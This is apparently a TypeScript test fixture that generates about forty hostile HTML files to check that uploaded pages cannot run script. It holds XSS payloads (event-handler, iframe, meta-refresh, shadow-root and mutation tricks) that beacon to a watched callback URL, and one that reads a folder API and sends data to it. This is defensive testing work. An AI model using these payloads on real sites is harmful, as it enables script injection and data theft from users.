import { type Body, filesOf, page, script } from './hostile-file.ts';

/** HTML that comes to life in as many ways as its elements offer. */
const bodies: Body[] = [
  page,
  (hit) => `<script>${script(hit)}</script>`,
  (hit) => `<SCRIPT>${script(hit)}</SCRIPT >`,
  (hit) => `<html><head><script type="module">${script(hit)}</script></head></html>`,
  (hit) => `<!doctype html><script src="data:text/javascript,${encodeURIComponent(script(hit))}"></script>`,
  (hit) => `<!doctype html><script src="${hit}/src"></script>`,
  (hit) => `<!-- a comment --><html><img src=x onerror="${script(hit)}"></html>`,
  (hit) => `<html><img src="${hit}/picture"></html>`,
  (hit) => `<body onload="${script(hit)}">`,
  (hit) => `<html><body onpageshow="${script(hit)}"></html>`,
  (hit) => `<html><svg onload="${script(hit)}"></svg></html>`,
  (hit) => `<html><svg><animate attributeName="x" dur="1ms" onbegin="${script(hit)}"></animate></svg></html>`,
  (hit) => `<html><details open ontoggle="${script(hit)}">x</details></html>`,
  (hit) => `<html><input autofocus onfocus="${script(hit)}"></html>`,
  (hit) => `<html><video src="data:," onerror="${script(hit)}"></video></html>`,
  (hit) => `<html><audio autoplay src="${hit}/sound"></audio></html>`,
  (hit) => `<html><iframe srcdoc="<script>${script(hit)}</script>"></iframe></html>`,
  (hit) => `<html><iframe src="javascript:${script(hit)}"></iframe></html>`,
  (hit) => `<html><iframe src="${hit}/frame"></iframe></html>`,
  (hit) => `<html><object data="${hit}/object"></object></html>`,
  (hit) => `<html><embed src="${hit}/embed"></html>`,
  (hit) => `<html><meta http-equiv="refresh" content="0;url=${hit}/refresh"></html>`,
  (hit) => `<html><meta http-equiv="refresh" content="0;url=data:text/html,<script>${script(hit)}</script>"></html>`,
  (hit) => `<html><link rel="stylesheet" href="${hit}/style"></html>`,
  (hit) => `<html><link rel="icon" href="${hit}/icon"><link rel="preload" as="image" href="${hit}/preload"></html>`,
  (hit) => `<html><style>@import "${hit}/import";</style></html>`,
  (hit) => `<html><p style="background: url(${hit}/background)">x</p></html>`,
  (hit) => `<html><base href="${hit}/base/"><img src="relative"></html>`,
  (hit) => `<html><form id="f" action="${hit}/form"></form><script>f.submit();${script(hit)}</script></html>`,
  (hit) => `<html><template shadowrootmode="open"><img src="${hit}/shadow"></template></html>`,
  (hit) =>
    `<div><template shadowrootmode="open"><script>${script(hit)}</script></template></div><script>${script(hit)}</script>`,
  (hit) =>
    `<html><math><annotation-xml encoding="text/html"><img src=x onerror="${script(hit)}"></annotation-xml></math></html>`,
  (hit) => `<html><noscript><img src="${hit}/noscript"></noscript><script>${script(hit)}</script></html>`,
  (hit) => `<html><script>top.document.title='ran';parent.hit&&parent.hit();${script(hit)}</script></html>`,
  (hit) => `<html><script>top.location='${hit}/top'</script></html>`,
  (hit) => `<html><script>navigator.serviceWorker?.register(location.href);${script(hit)}</script></html>`,
  (hit) => `<html><script>document.cookie='ran=1';localStorage.ran=1;${script(hit)}</script></html>`,
  (hit) =>
    `<html><script>fetch('/api/folders/root').then((r)=>r.text()).then((t)=>fetch('${hit}/'+t.length))</script></html>`,
  (hit) => `<html><a id="a" href="javascript:${script(hit)}">x</a><script>a.click()</script></html>`,
  (hit) => `<html><marquee onstart="${script(hit)}">x</marquee></html>`,
];

export const markup = filesOf('page', 'html', 'text/html', bodies);
